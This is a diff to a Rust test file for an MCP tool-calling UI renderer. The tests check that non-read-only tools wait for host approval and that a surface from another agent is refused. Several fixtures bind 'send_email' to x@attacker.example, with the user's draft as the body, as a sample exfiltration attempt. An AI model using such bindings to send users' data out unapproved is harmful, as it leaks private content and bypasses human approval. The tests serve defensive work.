@@ -87,11 +87,19 @@ async fn a_surface_calls_an_mcp_tool_and_shows_the_result() {
          "text": mcp_call("launch_missiles", json!({}))}
     ]);
     let mut renderer = Renderer::new(catalog);
+    // The renderer's store holds this server's surfaces: its surfaces may call its tools.
+    mcp.bind_store(renderer.store().id());
     renderer.feed_document(doc(components, json!({"flight": "UA954"})).as_bytes());
     let mut h = harness_for(renderer);
     h.run();
 
-    // One tools/call for the binding, however many frames ran; none for the unknown tool.
+    // A binding is drawn without a gesture and `select_flight` is not read-only: the call
+    // waits for the host, one however many frames ran; none for the unknown tool.
+    assert!(mcp.take_requests().is_empty(), "nothing sent unapproved");
+    let waiting = mcp.awaiting_approval();
+    assert_eq!(waiting.len(), 1, "{waiting:?}");
+    mcp.approve(&waiting[0].call_ref).unwrap();
+    assert!(mcp.awaiting_approval().is_empty());
     let requests = mcp.take_requests();
     assert_eq!(requests.len(), 1, "{requests:?}");
     assert_eq!(requests[0].name, "select_flight");
@@ -149,9 +157,12 @@ fn a_tool_apps_may_not_see_is_never_called() {
     let mcp = McpCatalog::new("srv", tools);
     let mut catalog = Catalog::basic();
     mcp.install(&mut catalog).unwrap();
-    let (r, _) = call(
+    let store = egui_a2ui::SurfaceStore::basic();
+    mcp.bind_store(store.id());
+    let (r, _) = call_in(
         &catalog,
         &Limits::default(),
+        Some(store.id()),
         "callMcpTool",
         json!({"name": "model_only"}),
     );
@@ -193,6 +204,7 @@ fn a_call_mcp_tool_loop_stops_at_the_call_limit() {
     tools.insert_tools_list(
         "echo",
         &json!({"tools": [{"name": "echo", "inputSchema": {"type": "object"},
+                           "annotations": {"readOnlyHint": true},
                            "_meta": {"ui": {"visibility": ["app"]}}}]}),
     );
     let mcp = McpCatalog::new("echo", tools);
@@ -205,6 +217,7 @@ fn a_call_mcp_tool_loop_stops_at_the_call_limit() {
     let text = json!({"@call": "callMcpTool", "catalogId": MCP_CATALOG_V1_0, "args": {
         "name": "echo", "arguments": {"n": {"@path": "/n"}}, "targetDataPath": "/n"}});
     let mut renderer = Renderer::with_limits(catalog, limits);
+    mcp.bind_store(renderer.store().id());
     renderer.feed_document(
         doc(
             json!([{"id": "root", "component": "Text", "text": text}]),
@@ -258,8 +271,23 @@ fn call(
     name: &str,
     args: Value,
 ) -> (Result<Value, A2uiError>, Vec<A2uiError>) {
+    call_in(catalog, limits, None, name, args)
+}
+
+/// [`call`] on a surface of `store`, when given.
+fn call_in(
+    catalog: &Catalog,
+    limits: &Limits,
+    store: Option<egui_a2ui::model::StoreId>,
+    name: &str,
+    args: Value,
+) -> (Result<Value, A2uiError>, Vec<A2uiError>) {
     let data = json!({});
     let cx = EvalContext::new(&data, "/", Version::V1_0, catalog.functions(), limits);
+    let cx = match store {
+        Some(s) => cx.with_store(s),
+        None => cx,
+    };
     let mut c = Map::new();
     c.insert("call".into(), json!(name));
     c.insert("args".into(), args);
@@ -524,4 +552,172 @@ fn web_view_components_are_safe_cards() {
         .collect();
     assert_eq!(opened, ["https://example.com/seats"]);
     assert!(h.state().renderer.store().errors().is_empty());
+}
+
+/// A mail server's tools: `send_email` changes the world, `list_drafts` is read-only.
+fn mail_tools() -> ToolDirectory {
+    let mut tools = ToolDirectory::new();
+    tools.insert_tools_list(
+        "mail",
+        &json!({"tools": [
+            {"name": "send_email", "inputSchema": {"type": "object"}},
+            {"name": "list_drafts", "inputSchema": {"type": "object"},
+             "annotations": {"readOnlyHint": true}}
+        ]}),
+    );
+    tools
+}
+
+fn send_email_text() -> Value {
+    json!([{"id": "root", "component": "Text", "text": mcp_call(
+        "send_email", json!({"to": "x@attacker.example", "body": {"@path": "/draft"}}))}])
+}
+
+/// The review's M2 input: a surface of another agent (a store not bound to the mail
+/// server's sessions) binds `send_email`. Nothing is sent or queued, the host sees a
+/// typed refusal and the agent gets an error.
+#[test]
+fn call_mcp_tool_from_a_foreign_surface_is_refused() {
+    let mcp = McpCatalog::new("mail", mail_tools());
+    let mut catalog = Catalog::basic();
+    mcp.install(&mut catalog).unwrap();
+    // A session of the mail server is bound; the renderer drawing the hostile surface is
+    // not.
+    let session = egui_a2ui::mcp::AppSession::new(
+        "call-1",
+        "mail",
+        "compose",
+        egui_a2ui::model::Catalogs::basic(),
+    );
+    mcp.bind_session(&session).unwrap();
+    let mut renderer = Renderer::new(catalog);
+    renderer.feed_document(doc(send_email_text(), json!({"draft": "secret notes"})).as_bytes());
+    let mut h = harness_for(renderer);
+    h.run();
+    assert!(mcp.take_requests().is_empty(), "nothing sent");
+    assert!(mcp.awaiting_approval().is_empty(), "nothing queued");
+    assert_eq!(mcp.calls_made(), 0);
+    let refusals = mcp.take_errors();
+    assert!(
+        refusals.iter().any(|e| matches!(e,
+            McpError::ForeignSurface { server_id, surface_id } if server_id == "mail" && surface_id == "s")),
+        "{refusals:?}"
+    );
+    // The host hands the refusal to the agent of the store that drew it, once.
+    assert_eq!(mcp.report_refusals(h.state_mut().renderer.store_mut()), 1);
+    h.run();
+    assert_eq!(mcp.report_refusals(h.state_mut().renderer.store_mut()), 0);
+    let told = h.state().errors();
+    assert!(
+        told.iter().any(|e| e.contains("not a surface of server")),
+        "the agent is told: {told:?}"
+    );
+    // A session of another server cannot be bound.
+    let other = egui_a2ui::mcp::AppSession::new(
+        "call-2",
+        "bank",
+        "pay",
+        egui_a2ui::model::Catalogs::basic(),
+    );
+    assert!(matches!(
+        mcp.bind_session(&other),
+        Err(McpError::SessionOfAnotherServer { .. })
+    ));
+}
+
+/// On a bound store, a binding to a tool that is not read-only (drawn, no gesture) is
+/// queued for the host, not sent; approving sends it, its result shows; denying another
+/// fails it without sending.
+#[test]
+fn a_tool_that_is_not_read_only_waits_for_approval_without_a_gesture() {
+    let mcp = McpCatalog::new("mail", mail_tools());
+    let mut catalog = Catalog::basic();
+    mcp.install(&mut catalog).unwrap();
+    let mut renderer = Renderer::new(catalog);
+    mcp.bind_store(renderer.store().id());
+    renderer.feed_document(doc(send_email_text(), json!({"draft": "hi"})).as_bytes());
+    let mut h = harness_for(renderer);
+    h.run();
+    h.run();
+    assert!(mcp.take_requests().is_empty(), "not sent without approval");
+    let waiting = mcp.awaiting_approval();
+    assert_eq!(waiting.len(), 1, "one queued, however many frames");
+    assert_eq!(waiting[0].name, "send_email");
+    assert_eq!(
+        Value::Object(waiting[0].arguments.clone()),
+        json!({"to": "x@attacker.example", "body": "hi"})
+    );
+    assert_eq!(mcp.pending_calls(), 1);
+    mcp.approve(&waiting[0].call_ref).unwrap();
+    let sent = mcp.take_requests();
+    assert_eq!(sent.len(), 1);
+    assert_eq!(sent[0].call_ref, waiting[0].call_ref);
+    assert!(mcp.approve(&waiting[0].call_ref).is_err(), "approved once");
+    mcp.on_result(
+        &sent[0].call_ref,
+        &json!({"content": [{"type": "text", "text": "Sent."}]}),
+    )
+    .unwrap();
+    h.run();
+    h.get_by_label_contains("Sent.");
+
+    // A second draft: denied, never sent, the call fails.
+    h.state_mut()
+        .renderer
+        .apply(json!({"version": "v1.0", "updateDataModel": {"surfaceId": "s", "path": "/draft", "value": "again"}}))
+        .into_result()
+        .unwrap();
+    h.run();
+    let waiting = mcp.awaiting_approval();
+    assert_eq!(waiting.len(), 1, "{waiting:?}");
+    mcp.deny(&waiting[0].call_ref).unwrap();
+    h.run();
+    assert!(mcp.take_requests().is_empty(), "a denied call is not sent");
+    assert!(mcp.awaiting_approval().is_empty());
+    assert_eq!(mcp.pending_calls(), 0);
+}
+
+/// A read-only tool is called while drawing, without a gesture.
+#[test]
+fn a_read_only_tool_is_called_without_a_gesture() {
+    let mcp = McpCatalog::new("mail", mail_tools());
+    let mut catalog = Catalog::basic();
+    mcp.install(&mut catalog).unwrap();
+    let mut renderer = Renderer::new(catalog);
+    mcp.bind_store(renderer.store().id());
+    let components = json!([{"id": "root", "component": "Text",
+        "text": mcp_call("list_drafts", json!({}))}]);
+    renderer.feed_document(doc(components, json!({})).as_bytes());
+    let mut h = harness_for(renderer);
+    h.run();
+    let sent = mcp.take_requests();
+    assert_eq!(sent.len(), 1, "{sent:?}");
+    assert_eq!(sent[0].name, "list_drafts");
+    assert!(mcp.awaiting_approval().is_empty());
+}
+
+/// A click on a button whose action is `callMcpTool` is a gesture: the tool is called
+/// at once, read-only or not.
+#[test]
+fn a_click_calls_a_tool_that_is_not_read_only() {
+    let mcp = McpCatalog::new("mail", mail_tools());
+    let mut catalog = Catalog::basic();
+    mcp.install(&mut catalog).unwrap();
+    let mut renderer = Renderer::new(catalog);
+    mcp.bind_store(renderer.store().id());
+    let action = json!({"functionCall": mcp_call("send_email", json!({"to": "me@example.com"}))});
+    let components = json!([
+        {"id": "root", "component": "Button", "child": "label", "action": action},
+        {"id": "label", "component": "Text", "text": "Send"}
+    ]);
+    renderer.feed_document(doc(components, json!({})).as_bytes());
+    let mut h = harness_for(renderer);
+    h.run();
+    assert!(mcp.take_requests().is_empty() && mcp.awaiting_approval().is_empty());
+    h.get_by_label("Send").click();
+    h.run();
+    let sent = mcp.take_requests();
+    assert_eq!(sent.len(), 1, "{sent:?}");
+    assert_eq!(sent[0].name, "send_email");
+    assert!(mcp.awaiting_approval().is_empty());
 }
